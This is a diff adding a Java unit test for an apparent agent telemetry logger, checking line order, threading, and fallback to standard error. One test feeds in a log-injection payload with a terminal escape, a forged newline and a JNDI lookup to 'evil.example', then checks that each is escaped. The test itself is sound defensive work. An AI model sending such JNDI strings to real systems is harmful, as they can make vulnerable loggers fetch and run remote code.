@@ -1,0 +1,207 @@
+package io.loopsentinel.agent.telemetry.logger;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.loopsentinel.agent.telemetry.AgentLog;
+import io.loopsentinel.agent.telemetry.MainThread;
+import io.loopsentinel.agent.telemetry.event.EventBus;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.List;
+import java.util.logging.Handler;
+import java.util.logging.Level;
+import java.util.logging.LogRecord;
+import java.util.logging.Logger;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+/** The way of lines to a logger of the application. */
+class ApplicationLogTest {
+
+  private static final Duration PATIENCE = Duration.ofMinutes(1);
+
+  /** Keeps what the application's logging is handed, and on which thread. */
+  private static class Keeping extends Handler {
+
+    final List<String> records = Collections.synchronizedList(new ArrayList<>());
+
+    @Override
+    public void publish(LogRecord logged) {
+      records.add(
+          Thread.currentThread().getName() + " " + logged.getLevel() + " " + logged.getMessage());
+    }
+
+    @Override
+    public void flush() {}
+
+    @Override
+    public void close() {}
+  }
+
+  private final Logger logger = Logger.getLogger(ApplicationLogger.NAME);
+  private final Keeping keeping = new Keeping();
+  private final List<String> others = Collections.synchronizedList(new ArrayList<>());
+  private final List<Throwable> failures = Collections.synchronizedList(new ArrayList<>());
+  private final EventBus bus = new EventBus(failures::add);
+
+  @BeforeEach
+  void listen() {
+    logger.setUseParentHandlers(false);
+    logger.setLevel(Level.ALL);
+    logger.addHandler(keeping);
+  }
+
+  @AfterEach
+  void leave() {
+    for (Handler handler : logger.getHandlers()) {
+      logger.removeHandler(handler);
+    }
+    logger.setUseParentHandlers(true);
+    logger.setLevel(null);
+    bus.close(PATIENCE);
+  }
+
+  @Test
+  void handsLinesOverInOrderOnTheThreadOfTheBus() {
+    // given
+    AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());
+
+    // when
+    log.error("one");
+    log.warn("two");
+    log.info("three");
+    log.debug("four\u001b[2J\nforged ${jndi:ldap://evil.example/x}");
+    bus.close(PATIENCE);
+
+    // then
+    assertThat(keeping.records)
+        .containsExactly(
+            "loop-sentinel events SEVERE one",
+            "loop-sentinel events WARNING two",
+            "loop-sentinel events INFO three",
+            "loop-sentinel events FINE four\\u001b[2J\\nforged $\\u007bjndi:ldap://evil.example/x}");
+    assertThat(others).isEmpty();
+    assertThat(failures).isEmpty();
+  }
+
+  @Test
+  void writesElsewhereUntilMainHasBegun() throws InterruptedException {
+    // given: the frames of a thread that has not come to the application's main are the JDK's
+    List<MainThread> starting = new ArrayList<>();
+    Thread thread = new Thread(() -> beforeMain(starting));
+    thread.start();
+    synchronized (starting) {
+      while (starting.isEmpty()) {
+        starting.wait();
+      }
+    }
+    AgentLog log = log(LogDestination.SYSTEM_LOGGER, starting.get(0));
+
+    // when
+    log.warn("before");
+    synchronized (starting) {
+      starting.clear();
+      starting.notifyAll();
+    }
+    thread.join();
+    log.warn("after");
+    bus.close(PATIENCE);
+
+    // then
+    assertThat(others).containsExactly("WARN before");
+    assertThat(keeping.records).containsExactly("loop-sentinel events WARNING after");
+  }
+
+  @Test
+  void writesElsewhereOnceTheBusHasClosed() {
+    // given
+    AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());
+
+    // when
+    bus.close(PATIENCE);
+    log.warn("late");
+
+    // then
+    assertThat(others).containsExactly("WARN late");
+    assertThat(keeping.records).isEmpty();
+  }
+
+  @Test
+  void saysOnceThatThereIsNoSuchLoggerAndWritesElsewhere() throws InterruptedException {
+    // given
+    AgentLog log = log(LogDestination.SLF4J, endedThreadOf(ClassLoader.getPlatformClassLoader()));
+
+    // when
+    log.warn("one");
+    log.info("two");
+    bus.close(PATIENCE);
+
+    // then
+    assertThat(others)
+        .containsExactly(
+            "WARN telemetry.log_to: slf4j is not there for the application's class loader; lines go"
+                + " to standard error",
+            "WARN one",
+            "INFO two");
+  }
+
+  @Test
+  void writesElsewhereWhatTheLoggerDoesNotTake() {
+    // given
+    logger.addHandler(
+        new Keeping() {
+          @Override
+          public void publish(LogRecord logged) {
+            throw new IllegalStateException("the user's secret");
+          }
+        });
+    AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());
+
+    // when
+    log.warn("one");
+    log.warn("two");
+    bus.close(PATIENCE);
+
+    // then
+    assertThat(others)
+        .containsExactly(
+            "WARN telemetry.log_to: system_logger fails with java.lang.IllegalStateException; lines"
+                + " go to standard error",
+            "WARN one",
+            "WARN two");
+  }
+
+  private AgentLog log(LogDestination destination, MainThread main) {
+    ApplicationLog output =
+        new ApplicationLog(destination, (level, line) -> others.add(level + " " + line), main);
+    output.connect(bus);
+    return new AgentLog(output, AgentLog.Level.DEBUG);
+  }
+
+  private static void beforeMain(List<MainThread> starting) {
+    synchronized (starting) {
+      starting.add(MainThread.current());
+      starting.notifyAll();
+      try {
+        while (!starting.isEmpty()) {
+          starting.wait();
+        }
+      } catch (InterruptedException e) {
+        Thread.currentThread().interrupt();
+      }
+    }
+  }
+
+  private static MainThread endedThreadOf(@Nullable ClassLoader loader)
+      throws InterruptedException {
+    List<MainThread> ended = new ArrayList<>();
+    Thread thread = new Thread(() -> ended.add(MainThread.current()));
+    thread.setContextClassLoader(loader);
+    thread.start();
+    thread.join();
+    return ended.get(0);
+  }
+}
